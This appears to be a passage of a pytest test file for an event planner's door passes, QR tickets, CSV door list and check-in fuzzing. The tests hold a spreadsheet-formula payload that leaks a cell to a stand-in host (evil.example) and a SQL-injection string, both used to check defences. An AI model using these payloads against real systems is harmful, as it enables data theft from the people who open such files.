    theirs = planner.create_door_pass(other.id)
    assert isinstance(north, DoorPass) and north.active and north.revoked_at is None
    assert (north.event_id, north.label, south.label, theirs.label) == (event.id, "North door", "South door", "Main door")
    assert north.url == f"{BASE_URL}/checkin?pass={_secret(north)}"
    assert [p.id for p in planner.door_passes(event.id)] == [north.id, south.id]
    assert planner.door_pass(_secret(north)) == north
    assert planner.door_pass(_secret(theirs)).event_id == other.id

    revoked = planner.revoke_door_pass(north.id)
    assert not revoked.active and revoked.revoked_at is not None and revoked.url == north.url
    assert planner.door_pass(_secret(north)) is None
    assert planner.door_pass(_secret(south)) == south
    assert [(p.id, p.active) for p in planner.door_passes(event.id)] == [(north.id, False), (south.id, True)]
    assert planner.revoke_door_pass(north.id).revoked_at == revoked.revoked_at  # idempotent
    assert_refused(lambda: planner.revoke_door_pass(999_999), exc=NotFound)


def test_door_passes_refuse_bad_input(planner, open_event, assert_refused):
    event = open_event()
    assert_refused(lambda: planner.create_door_pass(999_999), exc=NotFound)
    for label in ("", "   ", None, "x" * 101, "North\x00"):
        assert_refused(lambda: planner.create_door_pass(event.id, label=label), field="label")


def test_door_pass_secrets_are_long_random_and_distinct(planner, open_event):
    event = open_event()
    secrets_ = [_secret(planner.create_door_pass(event.id, label=f"Door {n}")) for n in range(40)]
    assert len(set(secrets_)) == len(secrets_)
    for secret in secrets_:
        assert set(secret) <= URLSAFE
        raw = base64.urlsafe_b64decode(secret + "=" * (-len(secret) % 4))
        assert len(raw) * 8 >= 128, f"only {len(raw) * 8} bits"
    assert len({s[:8] for s in secrets_}) == len(secrets_)


def test_unknown_or_malformed_door_pass_secrets_find_nothing(planner, open_event):
    event = open_event()
    secret = _secret(planner.create_door_pass(event.id))
    mutated = [secret[:i] + ("A" if secret[i] != "A" else "B") + secret[i + 1:] for i in (0, len(secret) // 2, len(secret) - 1)]
    for bad in (None, "", "x", "x" * 10_000, secret + " ", " " + secret, secret.upper(), secret[:-1], 12345,
                b"bytes", "\ud800" * 43, "' OR 1=1 --" + "a" * 20, *mutated):
        assert planner.door_pass(bad) is None, repr(bad)[:40]
    assert planner.door_pass(secret) is not None


def test_links_use_the_base_url(tmp_path):
    p = Planner(tmp_path / "planner.db", base_url="https://events.example.org/")
    event = p.create_event(title="X", starts_at=FUTURE, ends_at=FUTURE + timedelta(hours=1),
                           online_url="https://meet.example.org/x", capacity=5)
    p.publish_event(event.id)
    door_pass = p.create_door_pass(event.id)
    assert door_pass.url.startswith("https://events.example.org/checkin?pass=")
    r = p.register(event.id, name="Ana", email="ana@example.org")
    assert p.ticket_url(r) == f"https://events.example.org/checkin?code={r.checkin_code}"


# ---------------------------------------------------------------------- the QR ticket


def test_the_ticket_qr_code_reads_back_as_the_ticket_url(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    png = planner.ticket_qr_png(r.manage_token)
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    url = planner.ticket_url(r)
    assert url == f"{BASE_URL}/checkin?code={r.checkin_code}"
    assert decode_qr(png) == [url]
    result = planner.check_in(decode_qr(png)[0], event.id)
    assert (result.verdict, result.registration.id) == ("checked_in", r.id)


def test_waitlisted_and_cancelled_registrations_have_no_qr_ticket(planner, open_event, assert_refused):
    event = open_event(capacity=1)
    seated, waiting = people(planner, event.id, 2)
    assert_refused(lambda: planner.ticket_qr_png(waiting.manage_token), field="status")
    planner.cancel_registration(seated.manage_token)
    assert_refused(lambda: planner.ticket_qr_png(seated.manage_token), field="status")
    # Moved up: now it has one.
    assert decode_qr(planner.ticket_qr_png(waiting.manage_token)) == [planner.ticket_url(planner.registration(waiting.manage_token))]
    for bad in (None, "", "x" * 50, seated.checkin_code):
        assert_refused(lambda: planner.ticket_qr_png(bad), exc=NotFound)


# ---------------------------------------------------------------------- the printable door list


def read_door_list(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, for spreadsheet apps"
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == ["Name", "Organization", "Status", "Code", "Checked in"]
    return list(reader)


def test_the_door_list_is_a_csv_sorted_by_name_with_codes_for_confirmed_guests(planner, open_event):
    event = open_event(capacity=4)
    regs = {}
    for name, org, needs in [
        ("zoë Ortiz", "ActionAid", "Step-free access"),
        ("Émile Dupont", "Oxfam, France", ""),
        ("ana Pérez", 'The "Red" Cross', "French interpretation"),
        ("Álvaro Gómez", "", ""),
        ("Beatriz Núñez", "CELS", "Sign language"),  # waitlisted
        ("Carl Zed", "", ""),  # waitlisted, then cancels
    ]:
        regs[name] = planner.register(event.id, name=name, organization=org, needs=needs,
                                      email=f"{match_key(name).split()[0]}@example.org")
    planner.cancel_registration(regs["Carl Zed"].manage_token)
    planner.check_in(regs["ana Pérez"].checkin_code, event.id)
    walker = planner.walk_in(event.id, name="Dana Walker", force=True)

    data = planner.door_list_csv(event.id)
    rows = read_door_list(data)
    assert [r["Name"] for r in rows] == ["Álvaro Gómez", "ana Pérez", "Beatriz Núñez", "Dana Walker", "Émile Dupont", "zoë Ortiz"]
    by_name = {r["Name"]: r for r in rows}
    assert by_name["ana Pérez"] == {"Name": "ana Pérez", "Organization": 'The "Red" Cross', "Status": "confirmed",
                                    "Code": regs["ana Pérez"].ticket_code, "Checked in": "yes"}
    assert by_name["Émile Dupont"]["Organization"] == "Oxfam, France"
    assert by_name["Émile Dupont"]["Checked in"] == ""
    assert (by_name["Beatriz Núñez"]["Status"], by_name["Beatriz Núñez"]["Code"]) == ("waitlisted", "")
    assert (by_name["Dana Walker"]["Status"], by_name["Dana Walker"]["Code"], by_name["Dana Walker"]["Checked in"]) == (
        "walk-in", walker.ticket_code, "yes")
    for row in rows:
        if row["Status"] in ("confirmed", "walk-in"):
            assert TICKET_CODE.fullmatch(row["Code"]), row
    assert "Carl Zed" not in by_name, "cancelled registrations are not on the door list"
    text = data.decode("utf-8-sig")
    assert "@" not in text, "no emails on a printed list"
    for needs in ("Step-free access", "French interpretation", "Sign language"):
        assert needs not in text, "no access needs on a printed list"
    for r in regs.values():
        assert r.manage_token not in text


def test_the_door_list_of_an_event_without_guests_has_its_header(planner, open_event, assert_refused):
    event = open_event()
    assert read_door_list(planner.door_list_csv(event.id)) == []
    assert_refused(lambda: planner.door_list_csv(999_999), exc=NotFound)


def test_the_door_list_does_not_let_a_name_run_as_a_spreadsheet_formula(planner, open_event):
    """The list is made to be opened in a spreadsheet (hence the BOM). A registrant who types
    a formula as their name must not get it evaluated on the organizer's machine (CSV
    injection): cells starting with = + - @ must be neutralised (e.g. a leading apostrophe)."""
    event = open_event(capacity=10)
    planner.register(event.id, name='=HYPERLINK("https://evil.example/?x="&A1,"Click")', email="m@example.org",
                     organization="@SUM(1+1)")
    planner.register(event.id, name="+1 555 0100", email="p@example.org", organization="-2+3")
    rows = read_door_list(planner.door_list_csv(event.id))
    for row in rows:
        for column in ("Name", "Organization"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    assert any("HYPERLINK" in row["Name"] for row in rows), "the name is still there, only defused"


# ---------------------------------------------------------------------- fuzz


def _mutations(code: str) -> list[str]:
    """Every single-character change of a real code: substitutions at every position by every
    other alphabet character, deletions, and insertions of every character everywhere."""
    out = []
    for i, ch in enumerate(code):
        out += [code[:i] + other + code[i + 1:] for other in CROCKFORD if other != ch]
        out.append(code[:i] + code[i + 1:])
    for i in range(len(code) + 1):
        out += [code[:i] + extra + code[i:] for extra in CROCKFORD]
    return out


def test_random_and_mutated_codes_are_all_invalid(planner, open_event):
    event = open_event(capacity=60)
    regs = people(planner, event.id, 50)
    codes = db_codes(planner)
    assert len(codes) == 50
    rng = random.Random(20261020)
    printable = string.printable + "ÀéñøÜ€–—"
    random_codes = [''.join(rng.choices(CROCKFORD, k=16)) for _ in range(6_000)]
    random_text = [''.join(rng.choices(printable, k=rng.randint(0, 40))) for _ in range(4_000)]
    mutated = []
    for r in regs[:12]:
        mutated += _mutations(r.checkin_code)
        mutated += [dashed(m) if len(m) == 16 else m for m in _mutations(r.checkin_code)[:: 7]]
    fuzz = random_codes + random_text + mutated
    assert len(random_codes) + len(random_text) == 10_000 and len(mutated) > 10_000

    # The bulk: what the door would look up for each of them names no registration.
    for scanned in fuzz:
        assert checkin.normalize(scanned) not in codes, scanned
    # A substitution keeps the code's shape: it is refused because no such code exists.
    assert all(checkin.normalize(m) is not None for m in mutated if len(m.replace("-", "")) == 16)

    # End to end through check_in: 2,000 of them, from every family.
    sample = rng.sample(random_codes, 600) + rng.sample(random_text, 400) + rng.sample(mutated, 1_000)
    for scanned in sample:
        result = planner.check_in(scanned, event.id, door="Fuzz")
        assert result.verdict == "invalid" and result.registration is None, scanned
    log = planner.scans(event.id)
    assert len(log) == len(sample) and {(s.verdict, s.registration_id, s.door) for s in log} == {("invalid", None, "Fuzz")}
    assert planner.attendance(event.id).checked_in == 0
    assert all(r.checked_in_at is None for r in planner.registrations(event.id))
    # The real codes still work afterwards.
    assert all(planner.check_in(r.checkin_code, event.id).verdict == "checked_in" for r in regs[:5])


@settings(max_examples=60)
@given(scanned=st.one_of(st.text(max_size=60), st.text(alphabet=CROCKFORD + "-ilo", min_size=14, max_size=20)))
def test_check_in_of_any_text_is_a_verdict_never_a_crash(tmp_path_factory, scanned):
    shared, event_id, codes = _shared_planner(tmp_path_factory)
    result = shared.check_in(scanned, event_id)
    if checkin.normalize(scanned) in codes:
        assert result.verdict in ("checked_in", "already_checked_in")
    else:
        assert result == CheckInResult("invalid")


_SHARED: dict = {}


def _shared_planner(tmp_path_factory) -> tuple[Planner, int, set[str]]:
    """One planner for every hypothesis example (a fresh one each would cost a migration)."""
    if "planner" not in _SHARED:
        p = Planner(tmp_path_factory.mktemp("fuzz") / "planner.db")
        event = p.create_event(title="Fuzz", starts_at=FUTURE, ends_at=FUTURE + timedelta(hours=1),
                               online_url="https://meet.example.org/fuzz", capacity=50)
        p.publish_event(event.id)
        for n in range(5):
            p.register(event.id, name=f"P {n}", email=f"p{n}@example.org")
        _SHARED["planner"] = (p, event.id, db_codes(p))
    return _SHARED["planner"]
